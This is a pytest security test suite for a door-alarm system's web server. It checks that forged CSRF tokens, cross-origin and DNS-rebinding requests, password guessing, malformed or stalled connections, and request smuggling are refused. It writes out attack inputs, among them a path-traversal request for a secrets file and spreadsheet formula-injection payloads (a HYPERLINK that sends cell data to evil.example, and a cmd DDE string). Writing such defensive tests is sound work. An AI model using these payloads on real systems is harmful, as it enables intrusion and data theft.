"""`edgectl web` against what a browser on the site LAN (or a page of another site open in a
guard's browser) can send: forged identities, requests from another origin or without the
CSRF token, guessed sessions, password guessing, malformed and oversized requests, stalled
and flooding clients. Each must be refused and change nothing, the server must keep
serving, and an alarm raised by a simulated board (real mosquitto) meanwhile must still
reach the page."""
import json
import socket
import time

import pytest

from edgectl.core import mqttc, proto
from edgectl.room.web import auth, server
from edgectl.core import site as sitemod
from edgectl.sim.sim import SimBoard, Supervisor
from edgectl.sim.simio import SimIO
from webkit import PASSWORDS, Web, site_text
from polling import until

T = proto.topics
KEY = {'device': 'lobby-1', 'ctrl': 'front', 'type': 'door.forced'}


@pytest.fixture(scope='module')
def door(broker, tmp_path_factory):
    """The door's simulated board, one for the module (each test gets a fresh web server)."""
    folder = tmp_path_factory.mktemp('door')
    s = sitemod.parse(site_text(broker.port), str(folder / 'site.yaml'))
    sitemod.validate(s)
    b = SimBoard(sitemod.device_config(s, 'lobby-1'), folder / 'lobby-1').start()
    sup = Supervisor([b])
    io = SimIO(b.io_port)
    yield io
    io.close()
    sup.stop()
    b.stop()


@pytest.fixture
def live(tmp_path, broker, door):
    """A web server attached to the broker, a logged-in page, the door's board (door closed)."""
    web = Web(tmp_path, broker=broker)
    page = web.client()
    assert page.login('ann')[0] == 200
    assert _wait(lambda: (web.mon.devices.get('lobby-1') or {}).get('online'), 15), 'the board came online'
    yield web, page, door
    door.set('front.contact', 0)             # closed again: the forced door clears (and its acknowledgement)
    _wait(lambda: ('lobby-1', 'front', 'door.forced') not in web.mon.alarms, 2)
    web.close()
    # the broker outlives the test: a retained acknowledgement of the door must not
    c = mqttc.connect(broker.host, broker.port, 'cleanup')
    c.publish(T.alarm_ack('web', *KEY.values()), b'', qos=1, retain=True).wait_for_publish(5)
    c.disconnect()
    c.loop_stop()


def _wait(pred, timeout):
    return until(pred, timeout, 0.02)


def _forced_alarm(page):
    for a in page.get('/api/state')[2]['alarms']:
        if a['key'] == ['lobby-1', 'front', 'door.forced']:
            return a
    return None


def _raw(port, data, read=True, timeout=5):
    """Bytes straight onto a connection; the status code of the answer (None: closed, no answer)."""
    s = socket.create_connection(('127.0.0.1', port), timeout=timeout)
    try:
        s.sendall(data)
        if not read:
            return None
        got = b''
        while b'\r\n' not in got:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
        return int(got.split(b' ', 2)[1]) if got.startswith(b'HTTP/') else None
    finally:
        s.close()


def _check_alarm_arrives(abuse, web, page, io):
    """After the abuse: the door forced on the board still pops up within 2 s, unacknowledged."""
    t0 = time.monotonic()
    io.set('front.contact', 1)
    a = _wait(lambda: _forced_alarm(page), 2.0)
    if a is None:
        abuse.alarms_lost(1)
    assert a is not None, 'the alarm did not reach the page within 2 s of the input'
    assert a['acked'] is None and time.monotonic() - t0 < 2.0
    return a


def test_forged_identity_other_origins_and_guessed_sessions_change_nothing(live, abuse):
    web, page, io = live
    _check_alarm_arrives(abuse, web, page, io)
    tries = [
        page.post('/api/ack', dict(KEY), csrf=False),                                  # CSRF token left out
        page.post('/api/ack', dict(KEY), headers={'X-CSRF-Token': 'x' * 32}),          # forged
        page.post('/api/ack', dict(KEY), origin='http://evil.example'),                # a page of another site
        page.post('/api/ack', dict(KEY), origin='http://127.0.0.1.evil.example'),
        page.post('/api/ack', dict(KEY), origin=False),                                # no origin at all
        page.post('/api/ack', dict(KEY), origin='null'),                               # a sandboxed frame
        page.post('/api/ack', dict(KEY), cookie=False),                                # no session
        page.post('/api/ack', dict(KEY), cookie=False, headers={'Cookie': 'edgectl_session=' + 'A' * 43}),
        page.post('/api/command', {'device': 'lobby-1', 'ctrl': 'front', 'op': 'unlock'}, csrf=False),
        page.post('/api/command', {'device': 'lobby-1', 'ctrl': 'system', 'op': 'reboot'}),   # not a page action
        page.post('/api/command', {'device': 'lobby-1', 'ctrl': 'front', 'op': 'unlock', 'sig': 'x', 'id': 'forged'},
                  origin='http://evil.example'),
        page.get('/api/state', cookie=False, headers={'Cookie': 'edgectl_session=' + page.cookie[:-1] + 'x'}),
    ]
    for status, _, _ in tries:
        abuse.input(refused=status in (400, 401, 403, 404))
    assert [t[0] for t in tries] == [403, 403, 403, 403, 403, 403, 401, 401, 403, 404, 403, 401]
    assert _forced_alarm(page)['acked'] is None and not web.mon.acked, 'nothing was acknowledged'
    web.store.flush()
    assert web.store.table('commands') == [], 'no command went out'
    # the operator's own acknowledgement, with another name in the body, is theirs
    status, _, out = page.post('/api/ack', dict(KEY, by='mallory', operator='mallory', user='mallory'))
    abuse.input(refused=out.get('ack', {}).get('by') == 'ann')
    assert status == 200 and out['ack']['by'] == 'ann' and web.mon.acked[tuple(KEY.values())]['by'] == 'ann'


def test_password_guessing_is_throttled_and_journaled(live, abuse):
    web, page, io = live
    guesser = web.client()
    answers = [guesser.login('bob', 'guess-%d' % i)[0] for i in range(auth.FAILS_MAX + 5)]
    abuse.input(refused=all(a in (401, 429) for a in answers), n=len(answers))
    assert answers == [401] * auth.FAILS_MAX + [429] * 5
    assert guesser.login('bob', PASSWORDS['bob'])[0] == 429, 'the right password waits out the window too'
    web.store.flush()
    refused = [r for r in web.store.table('actions') if r['action'] == 'login_refused']
    assert len(refused) == auth.FAILS_MAX, 'each checked guess journaled; throttled ones are not even checked'
    assert page.get('/api/state')[0] == 200, 'a logged-in page carries on'
    _check_alarm_arrives(abuse, web, page, io)


MALFORMED = [
    ('oversized body', lambda p: _login_head(p) + b'Content-Length: %d\r\n\r\n' % (server.BODY_MAX + 1) +
     b'{' * (server.BODY_MAX + 1), 413),
    ('no length', lambda p: _login_head(p) + b'\r\n{}', 411),
    ('chunked', lambda p: _login_head(p) + b'Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n', 411),
    ('header line too long', lambda p: b'GET / HTTP/1.1\r\nHost: x\r\nX: ' + b'a' * 70000 + b'\r\n\r\n', 431),
    ('request line too long', lambda p: b'GET /' + b'a' * 70000 + b' HTTP/1.1\r\n\r\n', 414),
    ('too many headers', lambda p: b'GET / HTTP/1.1\r\n' + b''.join(b'X-%d: 1\r\n' % i for i in range(150)) + b'\r\n', 431),
    ('unknown method', lambda p: b'BREW / HTTP/1.1\r\nHost: x\r\n\r\n', 501),
    ('not HTTP', lambda p: b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + b'\x00' * 64 + b'\r\n\r\n', None),   # closed
    ('path out of the folder', lambda p: b'GET /static/../../core/secrets.py HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n' % p,
     401),
]


def _login_head(port):
    """A login request's head from this page's origin (so the body is what is judged)."""
    return (b'POST /api/login HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: http://127.0.0.1:%d\r\n'
            b'Content-Type: application/json\r\n' % (port, port))


def test_malformed_and_oversized_requests_are_refused_and_the_server_carries_on(live, abuse):
    web, page, io = live
    for name, make, want in MALFORMED:
        status = _raw(web.port, make(web.port))
        abuse.input(refused=status == want)
        assert status == want, '%s: got %s' % (name, status)
    bodies = [
        (b'{"device": "lobby-1", "ctrl": "front", "type": "door.forced"', 400),     # cut short
        (b'[1, 2, 3]', 400),                                                        # not an object
        (b'"a string"', 400),
        (b'\xff\xfe{}', 400),                                                       # not UTF-8
        (b'[' * 8000 + b']' * 8000, 400),                                           # nested past the parser's limit
        (json.dumps({'device': ['lobby-1'], 'ctrl': 'front', 'type': 'door.forced'}).encode(), 400),
        (json.dumps({'device': 'x' * 1000, 'ctrl': 'front', 'type': 'door.forced'}).encode(), 400),
        (json.dumps({'device': 'lobby-1', 'ctrl': 'front', 'type': 'door.forced', 'minutes': 1e308,
                     'reason': 'r'}).encode(), 400),
    ]
    for raw, want in bodies:
        status = page.post('/api/shelve' if b'minutes' in raw else '/api/ack', raw=raw)[0]
        abuse.input(refused=status == want)
        assert status == want, (raw[:60], status)
    status = page.post('/api/ack', raw=b'{}', headers={'Content-Type': 'text/plain'})[0]     # a cross-site form post
    abuse.input(refused=status == 415)
    assert status == 415
    for q in ('/api/journal?limit=-1&since=-1h', '/api/journal?since=' + 'x' * 5000, '/api/journal?' + '&'.join(
            'a%d=1' % i for i in range(50)), '/api/device?id=' + 'x' * 3000, '/api/device'):
        status = page.get(q)[0]
        abuse.input(refused=status in (200, 400, 404))
        assert status in (200, 400, 404), (q[:50], status)
    assert not web.mon.acked and not web.hub.shelf.items
    _check_alarm_arrives(abuse, web, page, io)


def test_stalled_and_flooding_clients_do_not_starve_the_page(live, abuse, monkeypatch):
    web, page, io = live
    monkeypatch.setattr(server.Handler, 'timeout', 1)
    stalled = [socket.create_connection(('127.0.0.1', web.port), timeout=5) for _ in range(20)]
    for s in stalled:
        s.sendall(b'POST /api/ack HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n')    # and then nothing
    abuse.input(refused=True, n=len(stalled))
    t0 = time.monotonic()
    assert page.get('/api/state')[0] == 200 and time.monotonic() - t0 < 1.0, 'served beside the stalled ones'
    time.sleep(1.5)
    closed = 0
    for s in stalled:
        try:
            closed += s.recv(100) == b''
        except OSError:
            closed += 1
        s.close()
    assert closed == len(stalled), 'stalled connections are dropped after the handler timeout'
    # live pages: at most PAGES_MAX at once; one more is told so, the open ones keep their pushes
    streams = []
    t0 = time.monotonic()
    try:
        for _ in range(server.PAGES_MAX):
            s = socket.create_connection(('127.0.0.1', web.port), timeout=5)
            s.sendall(b'GET /api/events HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nCookie: edgectl_session=%s\r\n\r\n' % (
                web.port, page.cookie.encode()))
            streams.append(s)
        assert _wait(lambda: len(web.hub.pages) == server.PAGES_MAX, 5)
        opened = time.monotonic() - t0
        assert opened < 2.0, 'a wall of pages (re)connecting at once took %.1f s' % opened
        status = page.get('/api/events')[0]
        abuse.input(refused=status == 503)
        assert status == 503
        a = _check_alarm_arrives(abuse, web, page, io)
        assert a is not None
    finally:
        for s in streams:
            s.close()


def test_a_formula_from_a_board_is_exported_as_text_not_run(live, broker, abuse):
    """A board may name its controller as it likes; the front desk opens the CSV in a
    spreadsheet: a name that is a formula must arrive as text."""
    import csv
    import io as _io
    web, page, io = live
    evil = mqttc.connect(broker.host, broker.port, 'evil')        # what a stolen board's login can publish
    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3']
    try:
        for i, f in enumerate(formulas):
            ev = {'seq': 900 + i, 'ts': 1, 'log': 77, 'type': 'door.opened', 'sev': 'info', 'ctrl': f}
            evil.publish(T.evt('web', 'lobby-1', 'front'), json.dumps(ev), qos=1).wait_for_publish(5)
    finally:
        evil.disconnect()
        evil.loop_stop()
    assert _wait(lambda: len([r for r in page.get('/api/journal?device=lobby-1')[2] if r.get('log') == 77]) == 4, 5)
    body = page.get('/api/journal?format=csv&device=lobby-1')[2].decode()
    ctrls = [row[4] for row in csv.reader(_io.StringIO(body))][1:]
    for f in formulas:
        abuse.input(refused=("'" + f) in ctrls and f not in ctrls)
        assert ("'" + f) in ctrls and f not in ctrls, ctrls


def test_a_page_of_another_site_pointed_at_loopback_is_refused(live, abuse):
    """DNS rebinding: evil.example re-pointed at 127.0.0.1 makes the guard's browser talk to
    the web server as evil.example; served on loopback, it answers loopback names only."""
    web, page, io = live
    port = web.port
    tries = [
        page.get('/', headers={'Host': 'evil.example:%d' % port}),
        page.post('/api/login', {'name': 'ann', 'password': 'guess-one-more'}, origin='http://evil.example:%d' % port,
                  headers={'Host': 'evil.example:%d' % port}),
        page.post('/api/ack', KEY, origin='http://evil.example:%d' % port, headers={'Host': 'evil.example:%d' % port}),
    ]
    for status, _, _ in tries:
        abuse.input(refused=status == 403)
    assert [t[0] for t in tries] == [403, 403, 403]
    for host in ('127.0.0.1:%d' % port, 'localhost:%d' % port, '[::1]:%d' % port):
        assert page.get('/api/me', headers={'Host': host})[0] == 200, host


def test_a_refused_post_never_has_its_body_read_as_the_next_request(live, abuse):
    """Keep-alive: a POST refused before its body is read must close the connection, or the
    body (which the sender chose) would be read as a request of its own. A CSRF token that
    is not ASCII is refused like any wrong one."""
    web, page, io = live
    inner = b'POST /api/logout HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: 2\r\n\r\n{}' % web.port
    for token in (b'wrong', b'\xc3\xa9'):
        head = (b'POST /api/ack HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: http://127.0.0.1:%d\r\n'
                b'Cookie: edgectl_session=%s\r\nX-CSRF-Token: %s\r\nContent-Type: application/json\r\n'
                b'Content-Length: %d\r\n\r\n' % (web.port, web.port, page.cookie.encode(), token, len(inner)))
        s = socket.create_connection(('127.0.0.1', web.port), timeout=5)
        try:
            s.sendall(head + inner)
            got = b''
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                got += chunk
        finally:
            s.close()
        answers = got.count(b'HTTP/1.')
        abuse.input(refused=answers == 1 and got.split(b' ')[1] == b'403')
        assert got.split(b' ')[1] == b'403' and answers == 1, got[:300]
    assert page.get('/api/state')[0] == 200, 'the session is still there'
